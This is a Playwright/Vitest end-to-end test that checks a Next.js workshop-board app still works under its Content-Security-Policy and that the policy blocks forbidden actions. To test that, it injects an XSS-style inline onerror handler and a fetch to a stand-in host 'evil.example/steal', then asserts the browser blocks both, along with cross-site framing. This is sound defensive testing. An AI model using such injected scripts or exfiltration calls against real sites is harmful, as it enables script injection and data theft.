import { describe, expect, it } from "vitest";
import { serverAndBrowser } from "./server-and-browser";
import { ui } from "../support/ui";
import { AppPages } from "./pages/app-pages";
import { boardUi } from "./pages/board-page";

/**
 * The app under its Content-Security-Policy in Chromium: everything it needs still works
 * (scripts, styles, the board's WebSocket, QR codes as data: images, the projector, the
 * language switch), and what the policy forbids is blocked. Any violation on any page fails
 * the test (server-and-browser.ts watches every page).
 */
describe("the app under its Content-Security-Policy", () => {
  const env = serverAndBrowser();

  it("works on every page it serves and blocks what the policy forbids", async () => {
    const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 } });
    const app = new AppPages(await context.newPage(), env.server.url);
    const { page } = app;

    await page.goto(`${env.server.url}/login`);
    // Tailwind's stylesheet applies: the sign-in button has the design system's colours.
    const button = page.getByRole("button", { name: "Anmelden", exact: true });
    const background = await button.evaluate((el) => getComputedStyle(el).backgroundColor);
    expect(background).not.toBe("rgba(0, 0, 0, 0)");
    expect(background).not.toBe("rgb(239, 239, 239)"); // Chromium's unstyled button

    await app.signInAndWaitForDashboard("moderation@deichhausen.example");
    await app.openDemoConcept();
    // Client navigation between the concept's tabs (Next's nonced scripts and chunks).
    await page.getByRole("link", { name: "Workshops" }).click();
    await page.getByRole("link", { name: "Board öffnen" }).first().click();
    // The board's WebSocket to /sync on the same host is allowed.
    await ui.text(page.getByTestId("sync-status")).toBe("Verbunden");

    // The invite QR code is a data: image and renders (invites are in the moderator's drawer).
    await boardUi.openDrawer(page);
    await page.getByRole("button", { name: "Link und QR-Code erstellen" }).click();
    const qr = page.getByRole("img", { name: "QR-Code zum Beitreten" });
    await ui.visible(qr);
    expect(await qr.evaluate((img: HTMLImageElement) => img.src.startsWith("data:"))).toBe(true);
    await expect
      .poll(() => qr.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
      .toBeGreaterThan(0);

    // The projector, with its join code, on the big screen.
    const boardUrl = page.url();
    const beamer = await env.browser.newContext({
      viewport: { width: 1920, height: 1080 },
      storageState: await context.storageState(),
    });
    const projector = await beamer.newPage();
    await projector.goto(`${boardUrl}/projector`);
    await ui.visible(projector.getByTestId("projector"));
    await page.getByRole("button", { name: "Auf dem Projektor zeigen" }).click();
    const joinQr = projector.getByTestId("projector-join").getByRole("img");
    await ui.visible(joinQr);
    await expect
      .poll(() => joinQr.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
      .toBeGreaterThan(0);
    await beamer.close();

    // next-intl: switching to English re-renders the pages in English.
    await page.goto(`${env.server.url}/`);
    await page.getByRole("button", { name: "Englisch" }).click();
    await ui.visible(page.getByRole("heading", { name: "Your concepts" }));

    // What the policy forbids: injected inline script, a connection to another site.
    const blocked = await page.evaluate(async () => {
      const w = window as unknown as { injected?: boolean };
      // Markup smuggled into the page, as an XSS would: its inline handler must not run.
      document.body.insertAdjacentHTML(
        "beforeend",
        '<img src="/does-not-exist.png" alt="" onerror="window.injected = true">',
      );
      let exfiltrated = true;
      try {
        await fetch("http://evil.example/steal");
      } catch {
        exfiltrated = false;
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { injected: w.injected === true, exfiltrated };
    });
    expect(blocked).toEqual({ injected: false, exfiltrated: false });
    await expect.poll(() => env.cspViolations.length).toBeGreaterThanOrEqual(2);
    const violations = env.cspViolations.splice(0);
    expect(violations.some((v) => v.includes("script-src"))).toBe(true);
    expect(violations.some((v) => v.includes("connect-src"))).toBe(true);
    expect(violations.filter((v) => !/script-src|connect-src|evil\.example/.test(v))).toEqual([]);

    // Another site cannot frame the app (frame-ancestors 'none').
    const framer = await context.newPage();
    await framer.setContent(
      `<iframe src="${env.server.url}/login" width="600" height="400"></iframe>`,
    );
    const frame = framer.frames()[1];
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const framedText = await frame?.evaluate(() => document.body?.innerText ?? "").catch(() => "");
    expect(framedText ?? "").not.toContain("Anmelden");
    await framer.close();
    // (Chromium reports the refused frame as a violation of frame-ancestors.)
    expect(env.cspViolations.splice(0).filter((v) => !v.includes("frame-ancestors"))).toEqual([]);

    await context.close();
  });
});
